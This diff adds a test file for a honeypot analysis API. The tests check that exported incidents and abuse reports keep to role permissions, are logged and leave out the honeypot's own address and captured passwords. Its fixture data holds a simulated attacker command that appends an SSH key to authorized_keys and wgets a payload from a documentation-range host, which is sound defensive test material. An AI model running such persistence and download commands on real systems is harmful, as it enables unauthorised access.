@@ -1,0 +1,188 @@
+/** What leaves the house, asked of the API over the real engine and what the analysis found on it. */
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { OperationalError } from '@apiary/model/errors.ts';
+import type { FastifyInstance } from 'fastify';
+import { Analysis } from '../analysis/analysis.ts';
+import { openInventory } from '../exports/testing/incident.ts';
+import { Arrivals } from '../reports/arrivals.ts';
+import { Catalogue } from '../reports/catalogue.ts';
+import type { StateDatabase } from '../state/database.ts';
+import { addUser } from '../state/users.ts';
+import { migrate } from '../store/schema.ts';
+import { Store } from '../store/store.ts';
+import { createApi } from './app.ts';
+
+const password = 'a long password';
+const attack_ms = Date.UTC(2026, 4, 20, 12);
+const hash = 'cd'.repeat(32);
+const key = `AAAA${'B3NzaC1yc2E'.repeat(8)}`;
+
+/** Two sources with one payload, one that only looks, one of a private network, and a honeypot itself. */
+const events = [
+  {
+    s: 0,
+    ip: '::ffff:203.0.113.1',
+    action: 'authenticate',
+    outcome: 'success',
+    session: 'a',
+    username: 'root',
+    password: 'hunter2',
+  },
+  {
+    s: 5,
+    ip: '::ffff:203.0.113.1',
+    action: 'input',
+    session: 'a',
+    command: `echo ssh-rsa ${key} >> ~/.ssh/authorized_keys; wget http://198.51.100.9/x; echo secret-pot 192.0.2.66`,
+  },
+  {
+    s: 9,
+    ip: '::ffff:203.0.113.1',
+    action: 'download',
+    session: 'a',
+    file_sha256: hash,
+    url: 'http://198.51.100.9/x',
+  },
+  {
+    s: 600,
+    ip: '::ffff:203.0.113.2',
+    action: 'authenticate',
+    outcome: 'failure',
+    session: 'b',
+    username: 'admin',
+    password: 'secret-pot',
+  },
+  {
+    s: 605,
+    ip: '::ffff:203.0.113.2',
+    action: 'download',
+    session: 'b',
+    file_sha256: hash,
+    url: 'http://192.0.2.66/from-here',
+  },
+  { s: 700, ip: '2001:db8:77::1', action: 'probe', session: 'c' },
+  { s: 800, ip: '::ffff:10.1.2.3', action: 'probe', session: 'd' },
+  { s: 900, ip: '::ffff:192.0.2.66', action: 'probe', session: 'e' },
+];
+
+describe('sharing', () => {
+  const directory = mkdtempSync(join(tmpdir(), 'apiary-sharing-'));
+  let store: Store;
+  let state: StateDatabase;
+  let app: FastifyInstance;
+  const clock_ms = attack_ms + 3_600_000;
+  const nothing = async (sha256: string): Promise<never> => {
+    throw new OperationalError('not_found', `there is no artifact ${sha256}`);
+  };
+  const cookies: Record<string, Record<string, string>> = {};
+  const ask = async (
+    who: string | null,
+    url: string,
+    more: { method?: 'GET' | 'POST' | 'DELETE'; payload?: object; headers?: Record<string, string> } = {},
+  ) => app.inject({ url, ...more, cookies: who === null ? {} : cookies[who]! });
+
+  before(async () => {
+    store = new Store({ directory });
+    await store.whenUp();
+    await migrate(store, []);
+    state = openInventory();
+    await store.insertRows(
+      'event',
+      events.map(({ s, ip, ...event }, index) => ({
+        event_id: index + 1,
+        sensor_id: 1,
+        sensor_type: 'test',
+        sensor_table: 'test_lines',
+        segment_id: 1,
+        place: index + 1,
+        detect_ts: new Date(attack_ms + s * 1000).toISOString().slice(0, 19).replace('T', ' '),
+        collect_ts: new Date(attack_ms + s * 1000).toISOString().slice(0, 19).replace('T', ' '),
+        target_kind: 'computer',
+        vantage: 'honeypot',
+        service: 'ssh',
+        transport: 'tcp',
+        source_port: 40_000 + index,
+        destination_port: 22,
+        attacker_ip: ip,
+        ...event,
+      })),
+    );
+    const scope = { pause_seconds: 3600, nets: [], honeypots: [], gateways: [], kept_from_us: 0 };
+    const analysis = new Analysis({ store, state, scope: () => scope, log: () => undefined });
+    await analysis.load();
+    analysis.note(1n);
+    await analysis.pass();
+    app = await createApi({
+      store,
+      state,
+      catalogue: new Catalogue([]),
+      recordings: { sql: new Map(), read: async () => null },
+      files: { examine: nothing, lock: nothing },
+      writeEvidence: async () => '',
+      arrivals: new Arrivals(),
+      isWell: () => true,
+      reporter: { organisation: 'Example CSIRT', contact: 'abuse@csirt.example' },
+      demo: false,
+      web_root: directory,
+      now_ms: () => clock_ms,
+    });
+    for (const role of ['administrator', 'analyst', 'viewer'] as const) {
+      await addUser(state, 'test', { name: role, role, password });
+      const made = await app.inject({
+        method: 'POST',
+        url: '/api/v1/login',
+        payload: { name: role, password },
+      });
+      cookies[role] = { apiary_login: made.cookies[0]!.value };
+    }
+  });
+  after(async () => {
+    await app.close();
+    await store.close();
+    state.close();
+    rmSync(directory, { recursive: true });
+  });
+
+  const numberOf = async (stage: string): Promise<number> => {
+    const { incidents } = (await ask('viewer', '/api/v1/incidents?last=7d')).json();
+    return incidents.find((incident: { stage: string }) => incident.stage === stage).number;
+  };
+
+  test('an incident leaves as a file by analysts, which is logged, and without its honeypot', async () => {
+    const number = await numberOf('brought a tool');
+    const url = `/api/v1/incidents/${number}/file?format=idea&tlp=clear`;
+    assert.equal((await ask('viewer', url)).statusCode, 403);
+    const response = await ask('analyst', url);
+    assert.equal(response.statusCode, 200, response.body);
+    assert.match(response.body, /"TLP": "CLEAR"/);
+    assert.match(response.body, new RegExp(hash));
+    assert.doesNotMatch(response.body, /secret-pot|192\.0\.2\.66/);
+    const { changes } = (await ask('administrator', '/api/v1/audit?verb=export%20incident')).json();
+    assert.deepEqual([changes[0].actor, changes[0].subject], ['analyst', `#${number}`]);
+  });
+
+  test('an abuse report has what its source did, and is made for no other address', async () => {
+    const number = await numberOf('brought a tool');
+    const report = (source: string) =>
+      ask('analyst', `/api/v1/incidents/${number}/abuse?source=${encodeURIComponent(source)}`);
+    const response = await report('203.0.113.1');
+    assert.equal(response.statusCode, 200, response.body);
+    const made = response.json();
+    assert.deepEqual(
+      [made.type, made.source_port, made.destination_port, made.reporter.domain],
+      ['login_attack', 40_000, 22, 'csirt.example'],
+    );
+    const lines = Buffer.from(made.evidence[0].payload, 'base64').toString().trim().split('\n');
+    assert.equal(lines.length, 3);
+    assert.match(lines[0]!, /^2026-05-20T12:00:00\.000000Z from port 40000 to tcp 22 ssh authenticate/);
+    assert.doesNotMatch(lines.join(), /hunter2|secret-pot|192\.0\.2\.66/);
+    assert.equal((await report('203.0.113.9')).statusCode, 404);
+    assert.equal((await report('not an address')).statusCode, 400);
+    const { changes } = (await ask('administrator', '/api/v1/audit?verb=make%20abuse%20report')).json();
+    assert.equal(changes.length, 1);
+  });
+});
